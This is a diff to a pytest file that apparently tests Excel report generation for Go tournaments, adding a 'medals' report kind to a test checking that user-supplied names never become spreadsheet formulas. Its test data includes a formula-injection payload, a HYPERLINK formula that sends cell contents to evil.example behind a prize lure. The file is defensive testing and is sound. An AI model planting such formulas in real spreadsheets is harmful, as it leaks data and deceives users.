@@ -15,7 +15,7 @@ import pytest
 from openpyxl import load_workbook
 
 from reports import EXCEL_KINDS, build_report
-from tests.reports.conftest import as_final, with_mcmahon
+from tests.reports.conftest import as_final, with_mcmahon, with_medals
 
 HOSTILE_NAMES = (
     '=HYPERLINK("http://evil.example/?"&A1,"点我领奖")',
@@ -61,6 +61,7 @@ ARGS = {
     "teams": {},
     "pairs": {},
     "prizes": {},
+    "medals": {},
     "mcmahon": {},
 }
 
@@ -80,6 +81,8 @@ def _own_formula(formula: str, sheets: list[str]) -> bool:
 def test_no_report_cell_is_a_formula_made_from_user_text(tmp_path: Path, hostile_go, kind) -> None:
     if kind == "mcmahon":
         with_mcmahon(hostile_go)
+    if kind == "medals":
+        with_medals(hostile_go)
     out = build_report(as_final(hostile_go), kind, tmp_path / f"{kind}.xlsx", **ARGS[kind])
     texts: set[str] = set()
     book = load_workbook(out)
